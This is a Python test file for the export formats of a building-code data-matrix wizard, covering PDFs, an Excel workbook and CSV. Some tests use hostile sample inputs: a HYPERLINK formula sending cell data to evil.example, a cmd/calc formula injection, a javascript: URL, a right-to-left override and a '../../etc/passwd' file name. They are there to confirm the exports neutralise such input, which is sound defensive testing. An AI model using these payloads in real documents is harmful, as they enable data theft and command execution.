"""The matrix as files a consultant opens: the PDFs read back with pypdf, the workbook with openpyxl.

Projects are filled through the real wizard on a TinyDB store, with the offline advisor asking
its own clarifying questions (the discussion) and the code checks finding a real contradiction
that the consultant insisted on (the findings and the override).
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from storage import TinyDBStorage
from tests.support import Clock, scenario
from tests.test_checks import up_to_310
from wizard_core import WizardError, export_file_name, open_wizard
from wizard_core import export as exports
from wizard_core.advisors.offline.advisor import OfflineAdvisor
from wizard_core.export import pdf as pdf_export
from wizard_core.export import review_pdf
from wizard_core.sheet.write import sheet_lines

LONG_NOTE = " ".join(f"note{n:04d}" for n in range(400))  # about 3,600 characters
UNICODE = "Café — the owner’s “annex”: ≥ 2 exits, 600 m², façade naïve, 東京タワー 😀 ﷺ e\u0301"


def _wizard(tmp_path: Path):
    return open_wizard(TinyDBStorage(tmp_path / "data"), OfflineAdvisor(), clock=Clock())


def _words(text: str) -> str:
    return " ".join(text.split())


def _pdf(data: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


@pytest.fixture
def discussed(tmp_path: Path):
    """A vague conversation (the advisor asked back on several items) and a long note on 3.27."""
    wizard = _wizard(tmp_path)
    pid = wizard.start_project("12 King St — house to office", address="12 King St W, Toronto ON").project_id
    for message in scenario("house-conversion-vague.json")["messages"]:
        wizard.process_user_response(pid, message)
    wizard.go_to_item(pid, "3.27")
    wizard.process_user_response(pid, LONG_NOTE)
    return wizard, wizard.load_project(pid)


@pytest.fixture
def insisted(tmp_path: Path):
    """A project whose 3.11 answer contradicts the code and was recorded anyway, with its reason."""
    wizard = _wizard(tmp_path)
    pid = up_to_310(wizard, "walk-up apartments")
    wizard.answer_directly(pid, "3.10", ["3.2.2.52"])
    wizard.process_user_response(pid, "Not required.")
    wizard.process_user_response(
        pid, "Not required - record it anyway: an alternative solution replaces the sprinklers."
    )
    return wizard, wizard.load_project(pid)


def test_the_review_copy_holds_every_answer_with_its_references_and_a_heading_on_every_page(
    discussed,
) -> None:
    wizard, state = discussed
    pages = _pdf(wizard.export_file(state, "review-pdf"))
    whole = _words("\n".join(pages))
    answered = [row for row in wizard.matrix_rows(state) if row["status"] == "answered"]
    assert len(answered) >= 7
    for row in answered:
        assert f"{row['item']} {row['title']}" in whole
        if row["item"] != "3.27":  # the long note, over a page's foot: below
            assert _words(f"Answer: {row['answer']}") in whole, row["item"]  # wrapped onto lines, never cut
        assert f"OBC references: {', '.join(row['references'])}" in whole
    assert "3.10 Building classification Not answered yet (to do)." in whole  # the rest shows as unanswered
    assert len(pages) >= 3
    for number, page in enumerate(pages, start=1):
        text = _words(page)
        assert "12 King St — house to office — building code data matrix, review copy" in text
        assert "Site address: 12 King St W, Toronto ON." in text
        assert "O. Reg. 163/24" in text and "2024 edition" in text and "Exported 2026-03-02" in text
        assert f"Page {number} of {len(pages)}" in text


def test_the_drawing_sheet_is_one_page_holding_every_answer_and_a_long_note_in_full(discussed) -> None:
    wizard, state = discussed
    pages = _pdf(wizard.export_file(state, "pdf"))
    assert len(pages) == 1
    sheet = _words(pages[0])
    assert "12 King St — house to office" in sheet and "12 King St W, Toronto ON" in sheet
    assert re.findall(r"note\d{4}", sheet) == LONG_NOTE.split()  # every word, in order, none cut
    assert "Existing 140 m²" not in sheet and "TOTAL 140 0 140" in sheet  # the area in its columns
    review = "\n".join(_pdf(wizard.export_file(state, "review-pdf")))
    assert re.findall(r"note\d{4}", review.split("3.27 Notes")[1].split("Basis:")[0]) == LONG_NOTE.split()


def test_the_review_copy_has_each_answers_basis_and_discussion(discussed) -> None:
    wizard, state = discussed
    appendix = _words("\n".join(_pdf(wizard.export_file(state, "review-pdf"))).split("Basis of answers")[1])
    assert state.archived_clarifying_sessions
    for section, session in state.archived_clarifying_sessions.items():
        assert f"{section} {wizard.title(section)}" in appendix
        for qa in session:
            assert _words(f"Q: {qa.question}") in appendix
            if qa.answer:
                assert _words(f"A: {qa.answer}") in appendix
    answer = state.answer_for("3.01")
    assert _words(f"Basis: {answer.answer}") in appendix
    assert "Confidence 1.00; set from the project's code edition; confirmed." in appendix


def test_the_review_copy_has_the_override_and_the_code_checks(insisted) -> None:
    wizard, state = insisted
    found = wizard.check(state.project_id)
    assert any(f.item == "3.11" and f.severity == "error" for f in found)
    appendix = _words(
        "\n".join(_pdf(wizard.export_file(state, "review-pdf", found))).split("Basis of answers")[1]
    )
    assert "Recorded despite the code checks" in appendix and "an alternative solution replaces" in appendix
    checks = appendix.split("Code checks")[-1]
    for finding in found:
        assert _words(f"{finding.item} {finding.severity}: {finding.message}") in checks


def test_typed_unicode_and_hostile_text_export_in_every_format(tmp_path: Path) -> None:
    wizard = _wizard(tmp_path)
    pid = wizard.start_project(f"Tower {UNICODE}"[:120]).project_id
    hostile = f'=HYPERLINK("http://evil.example/?d="&A1,"open") {UNICODE} javascript:alert(1) \u202eevil'
    wizard.go_to_item(pid, "3.27")
    wizard.process_user_response(pid, hostile)
    state = wizard.load_project(pid)
    assert state.answer_for("3.27").value.startswith("=HYPERLINK")
    # Half a surrogate pair can reach a record only from outside the wizard (a model's reply, an
    # edited file); the exports still show the rest.
    broken = state.model_copy(deep=True)
    broken.replace_answer("3.27", answer="Basis \ud800 kept")
    for fmt in exports.FORMATS:
        assert wizard.export_file(broken, fmt)
    for fmt in ("pdf", "review-pdf"):
        data = wizard.export_file(state, fmt)
        text = _words("\n".join(_pdf(data)))
        for typed in ("Café — the owner’s “annex”: ≥ 2 exits, 600 m², façade naïve", "😀"):
            assert typed in text, fmt
        assert "http[:]//evil.example" in text and "javascript[:]alert(1)" in text
        assert "東京" not in text and "\ufffd" in text  # a glyph the font lacks is replaced, not fatal
        assert b"/URI" not in data and b"/JavaScript" not in data and b"/Annot" not in data


def test_without_the_unicode_font_the_pdfs_fall_back_to_the_builtin_one(discussed, tmp_path) -> None:
    wizard, state = discussed
    rows = wizard.matrix_rows(state)
    rows[-1]["answer"] = UNICODE
    top = exports.heading(state, wizard.forms, rows, Clock()())
    data = review_pdf.review_pdf_bytes(top, rows, [], fonts=[tmp_path / "no-fonts-here"])
    text = _words("\n".join(_pdf(data)))
    assert 'Café - the owner\'s "annex": >= 2 exits, 600 m²' in text
    assert "12 King St - house to office" in text and "Page 1 of" in text
    references = {row["item"]: row["references"] for row in rows}
    lines = sheet_lines(state, wizard.forms, top.practice, references, top.exported, top.progress)
    statuses = {row["item"]: row["answer_status"] for row in rows}
    sheet = _pdf(pdf_export.pdf_bytes(top, lines, statuses, fonts=[tmp_path / "no-fonts-here"]))
    assert len(sheet) == 1 and "12 King St - house to office" in _words(sheet[0])


def _part3_rows(sheet) -> dict[str, list]:
    """Each item's first row on the sheet, by item number."""
    return {
        str(row[0]): list(row) for row in sheet.iter_rows(values_only=True) if str(row[0]).startswith("3.")
    }


def test_the_workbook_is_the_part_3_sheet_then_the_review_data_and_the_discussion(discussed) -> None:
    wizard, state = discussed
    book = load_workbook(io.BytesIO(wizard.export_file(state, "xlsx")))
    assert book.sheetnames == ["Part 3", "Review", "Discussion"]
    sheet = book["Part 3"]
    assert sheet["A1"].value.startswith("Ontario Building Code data matrix, Part 3: ")
    assert "of 28 confirmed" in sheet["A1"].value
    assert (sheet["B7"].value, sheet["C7"].value) == ("Name of Project", "12 King St — house to office")
    assert (sheet["B9"].value, sheet["C9"].value) == ("Date", "2026-03-02")
    items = _part3_rows(sheet)
    assert list(items) == [item.number for item in wizard.items]
    area_row = next(r for r in sheet.iter_rows(min_row=sheet["A1"].row) if r[0].value == "3.04")[0].row
    total = [c.value for c in sheet[area_row + 4]]
    assert total[3] == "TOTAL" and total[8:11] == [140, 0, 140] and isinstance(total[10], int)
    assert items["3.04"][11] == "[A] 1.4.1.2."
    assert items["3.27"][3] == LONG_NOTE.split("\n")[0]
    review = {r[0]: r for r in book["Review"].iter_rows(min_row=6, values_only=True)}
    assert review["3.04"][3] in ("proposed", "confirmed") and isinstance(review["3.04"][4], float)
    assert review["3.10"][3] == "unanswered" and review["3.10"][2] == "Unanswered"
    assert review["3.27"][2] == LONG_NOTE
    discussion = list(book["Discussion"].iter_rows(min_row=6, values_only=True))
    assert len(discussion) == sum(len(s) for s in state.archived_clarifying_sessions.values())
    assert sheet.page_setup.orientation == "landscape" and int(sheet.page_setup.paperSize) == 3  # tabloid
    assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 1


def test_formula_looking_text_is_stored_as_text_in_the_workbook(insisted, tmp_path: Path) -> None:
    wizard, state = insisted
    formulas = ['=HYPERLINK("http://evil.example","x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
    for text in formulas:
        wizard.go_to_item(state.project_id, "3.27")
        wizard.process_user_response(state.project_id, text)
        state = wizard.load_project(state.project_id)
        path = tmp_path / "matrix.xlsx"
        path.write_bytes(wizard.export_file(state, "xlsx"))
        book = load_workbook(path)
        notes = next(row for row in book["Part 3"].iter_rows() if row[0].value == "3.27")
        reviewed = next(row for row in book["Review"].iter_rows(min_row=6) if row[0].value == "3.27")
        for cell in (notes[3], reviewed[2]):
            assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited
            assert text.replace("http://", "http[:]//") in cell.value
    review = list(load_workbook(path)["Review"].iter_rows(min_row=6, values_only=True))
    assert any(row[0] == "3.11" and row[9] for row in review)  # the code check beside its item


def test_the_csv_file_carries_the_byte_order_mark_excel_needs(discussed) -> None:
    wizard, state = discussed
    data = wizard.export_file(state, "csv")
    assert data.startswith(codecs.BOM_UTF8) and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "Item" and len(rows) == 29
    assert "Existing 140 m², new 0 m², total 140 m²" in next(r for r in rows if r[0] == "3.04")[2]
    assert wizard.export_file(state, "md").decode("utf-8").startswith("# 12 King St")  # no mark


def test_a_project_too_large_to_lay_out_is_refused_with_a_clear_message(discussed, monkeypatch) -> None:
    wizard, state = discussed
    monkeypatch.setattr(exports, "MAX_LAYOUT_CHARS", 1000)
    for fmt in ("pdf", "review-pdf", "xlsx"):
        with pytest.raises(WizardError, match="export Markdown or JSON"):
            wizard.export_file(state, fmt)
    assert wizard.export_file(state, "md")  # the text formats hold it all
    with pytest.raises(WizardError, match="Unknown export format"):
        wizard.export_file(state, "docx")


def test_file_names_come_from_the_project_name_and_never_make_a_path() -> None:
    assert export_file_name("12 King St — house/office", "pdf") == "12-king-st-house-office-data-matrix.pdf"
    assert export_file_name("../../etc/passwd", "xlsx") == "etc-passwd-data-matrix.xlsx"
    assert export_file_name("東京", "csv") == "project-data-matrix.csv"


def test_the_site_address_heads_every_export_and_can_be_changed_or_cleared(discussed) -> None:
    wizard, state = discussed
    book = load_workbook(io.BytesIO(wizard.export_file(state, "xlsx")))
    assert book["Part 3"]["C8"].value == "12 King St W, Toronto ON"
    assert str(book["Review"].cell(2, 1).value).startswith("Site address: 12 King St W, Toronto ON.")
    assert "Site address: 12 King St W, Toronto ON." in wizard.export(state, "md")
    moved = wizard.rename_project(state.project_id, state.name, "  40 Bay St, Toronto ON ")
    assert wizard.load_project(state.project_id).address == "40 Bay St, Toronto ON"
    assert "Site address: 40 Bay St, Toronto ON." in _words(_pdf(wizard.export_file(moved, "review-pdf"))[0])
    assert "LOCATION/ADDRESS 40 Bay St, Toronto ON" in _words(_pdf(wizard.export_file(moved, "pdf"))[0])
    cleared = wizard.rename_project(state.project_id, state.name, "")
    assert cleared.address == "" and "Site address" not in wizard.export(cleared, "md")
    with pytest.raises(WizardError, match="site address is 201 characters"):
        wizard.rename_project(state.project_id, state.name, "x" * 201)
    assert wizard.load_project(state.project_id).address == ""  # nothing changed
